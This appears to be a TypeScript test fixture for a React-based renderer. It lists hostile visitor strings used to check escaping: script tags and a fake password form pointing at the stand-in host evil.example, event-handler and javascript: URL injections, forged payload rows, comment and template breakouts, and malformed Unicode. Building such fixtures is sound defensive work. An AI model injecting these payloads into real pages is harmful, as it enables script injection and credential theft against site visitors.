/** Visitors' texts that look like parts of a page, of its payload or of a script. */

const BAIT = 'evil.example';

export const EVIL_TEXTS: Record<string, string> = {
  'an element': `"></p></script><script src="//${BAIT}"></script><form action="//${BAIT}"><input name="password"></form>`,
  'a script in other letters': `'><SCRIPT>self.${BAIT}</SCRIPT><svg onload=x()><iframe srcdoc="<script>">`,
  'the script of a payload': '</script><script>(self.__FLIGHT_DATA||=[]).push("0:\\"x\\"\\n")</script>',
  'what ends a template': `\`+x()+\`\${x()}\\\`\\\${x()}`,
  comments: '<!--<script>--!> --> <!-- <script> ]]>',
  'rows of a payload': `\n0:["$","form",null,{"action":"//${BAIT}"}]\n1:"$L0"\n:HL["//${BAIT}","style"]\n2:T5,abcde`,
  'a reference': '$L1',
  'an address of a script': `javascript:x()//${BAIT}`,
  'an address elsewhere': `//${BAIT}/x`,
  'line ends of scripts': '\u2028\u2029\u0000\r\n\u0085\ufeff',
  'halves of a character': '\ud800x\udc00 \udbff',
  'the place of an attribute': ` nonce="x" data-part="x"> data-part='x'>`,
};

/** The text again and again until it has so many characters; React writes from 1,024 bytes on as they are. */
export function upTo(text: string, length: number): string {
  return text.repeat(Math.max(1, Math.ceil(length / text.length)));
}

/** As a database or an address can hold it: a half of a character is none. */
export function asStored(text: string): string {
  return text.toWellFormed().replaceAll('\0', '');
}
